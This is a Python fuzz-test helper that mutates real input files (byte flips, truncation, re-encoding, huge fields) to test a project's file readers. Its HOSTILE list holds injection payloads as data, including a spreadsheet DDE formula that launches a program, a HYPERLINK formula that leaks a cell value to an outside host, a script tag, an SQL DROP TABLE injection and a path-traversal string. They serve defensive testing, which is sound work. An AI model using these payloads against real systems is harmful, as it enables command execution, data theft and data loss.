"""Hostile versions of real input files, for the readers' fuzz tests.

Every example starts from a real file (shared/realworld or a golden input)
and applies one to five edits: byte flips, truncation, cuts, random bytes,
whole lines deleted, repeated, swapped or inserted, hostile text (spreadsheet
formula prefixes, markup, control and bidi characters, absurd numbers and
dates), a field of 10,000 to 150,000 characters, other line endings, or the
whole file re-encoded (UTF-16, UTF-32, CP1252, Latin-1, EBCDIC, Shift-JIS).

``DPRECON_FUZZ_EXAMPLES`` sets how many files each test tries (default 300);
runs are derandomised, so CI sees the same files every time.
"""

from __future__ import annotations

import os
import re

from hypothesis import HealthCheck, settings
from hypothesis import strategies as st

EXAMPLES = int(os.environ.get("DPRECON_FUZZ_EXAMPLES", "300"))

fuzz_settings = settings(
    max_examples=EXAMPLES,
    deadline=None,
    derandomize=True,
    database=None,
    print_blob=True,
    suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large, HealthCheck.large_base_example],
)

HOSTILE = [
    b"=cmd|' /C calc'!A0",
    b"=HYPERLINK(\"http://x.example/?\"&A1,\"click\")",
    b"+SUM(1+1)",
    b"-2+3",
    b"@SUM(A1)",
    b"\t=1+1",
    b"<script>alert(1)</script>",
    b"'; DROP TABLE land.statement_lines; --",
    b"\x00",
    b"\x1b[31m",
    b"\xef\xbb\xbf",
    b"\xff\xfe",
    b"\xe2\x80\xae",  # right-to-left override
    b"\xe2\x80\x8b",  # zero-width space
    b"\xf0\x9f\x92\xb7",  # an emoji: four UTF-8 bytes
    b"\xed\xa0\x80",  # a lone surrogate, encoded
    b"\xc0\xaf",  # overlong UTF-8
    b"\xa3",  # a CP1252 pound sign
    b"\xc2\xa3-0.00",
    b"9" * 40,
    b"1e999",
    b"NaN",
    b"-Infinity",
    b"(12.00)",
    b"12,3,4",
    b"0000-00-00",
    b"31/02/2025",
    b"29 Feb 2023",
    b"99991231235959.999[-12:X]",
    b"&#0;&#xD800;&#99999999;&amp;lt;",
    b"]]><!--",
    b'"',
    b'""',
    b",",
    b";",
    b"\r",
    b"\n\n",
    b"../../etc/passwd",
    b"C:\\x.pdf",
]
ENCODINGS = ["utf-16", "utf-16-le", "utf-32", "cp1252", "latin-1", "utf-8-sig", "cp500", "shift_jis"]
_LINE = re.compile(rb"[^\n]*\n|[^\n]+$")
# A value: an element's text in XML and OFX, a cell in CSV.
_XML_VALUE = re.compile(rb">([^<>\r\n]*)")
_CSV_VALUE = re.compile(rb"(?:^|(?<=[,\n]))([^,\r\n]*)", re.M)
VALUES = st.sampled_from(HOSTILE) | st.text(max_size=24).map(lambda t: t.encode("utf-8", "surrogatepass"))


def _escape(value: bytes, xml: bool) -> bytes:
    if xml:
        return value.replace(b"&", b"&amp;").replace(b"<", b"&lt;").replace(b">", b"&gt;")
    return b'"' + value.replace(b'"', b'""') + b'"' if re.search(rb'[",\r\n]', value) else value


def _lines(data: bytearray) -> list[bytes]:
    return _LINE.findall(bytes(data))


@st.composite
def mutated(draw: st.DrawFn, seeds: list[bytes]) -> bytes:
    data = bytearray(draw(st.sampled_from(seeds)))
    for _ in range(draw(st.integers(1, 5))):
        op = draw(
            st.sampled_from(
                ["flip", "byte", "truncate", "cut", "insert", "hostile", "value", "value", "value",
                 "line_delete", "line_repeat", "line_swap", "line_insert", "huge",
                 "line_endings", "encoding"]
            )
        )
        at = draw(st.integers(0, len(data)))
        if op == "flip" and at < len(data):
            data[at] ^= draw(st.integers(1, 255))
        elif op == "byte" and at < len(data):
            data[at] = draw(st.integers(0, 255))
        elif op == "truncate":
            del data[at:]
        elif op == "cut":
            del data[at : at + draw(st.integers(1, 64))]
        elif op == "insert":
            data[at:at] = draw(st.binary(min_size=1, max_size=16))
        elif op == "hostile":
            data[at:at] = draw(st.sampled_from(HOSTILE))
        elif op == "value":  # keeps the file well formed, so the reader gets further in
            xml = b"<" in data[:400]
            spans = list((_XML_VALUE if xml else _CSV_VALUE).finditer(data))
            if spans:
                m = spans[draw(st.integers(0, len(spans) - 1))]
                escaped = draw(st.booleans())
                value = draw(VALUES)
                data[m.start(1) : m.end(1)] = _escape(value, xml) if escaped else value
        elif op.startswith("line_"):
            lines = _lines(data)
            if not lines:
                continue
            i = draw(st.integers(0, len(lines) - 1))
            j = draw(st.integers(0, len(lines) - 1))
            if op == "line_delete":
                del lines[i]
            elif op == "line_repeat":
                lines[i:i] = [lines[i]] * draw(st.integers(1, 3))
            elif op == "line_swap":
                lines[i], lines[j] = lines[j], lines[i]
            else:
                lines.insert(i, draw(st.sampled_from([lines[j], b"\n", b",,,,\n"] + HOSTILE)))
            data = bytearray(b"".join(lines))
        elif op == "huge":
            size = draw(st.sampled_from([10_000, 150_000]))
            filler = draw(st.sampled_from([b"A", b"9", b"\xa3", b"<", b","]))
            quote = draw(st.sampled_from([b"", b'"']))
            data[at:at] = quote + filler * size + quote
        elif op == "line_endings":
            ending = draw(st.sampled_from([b"\r\n", b"\r"]))
            data = bytearray(bytes(data).replace(b"\r\n", b"\n").replace(b"\n", ending))
        elif op == "encoding":
            text = bytes(data).decode("utf-8", errors="replace")
            data = bytearray(text.encode(draw(st.sampled_from(ENCODINGS)), errors="replace"))
    return bytes(data)


def file_lines(data: bytes) -> int:
    """Physical lines in a file, however it ends its lines."""
    return len(re.split(rb"\r\n|\r|\n", data))
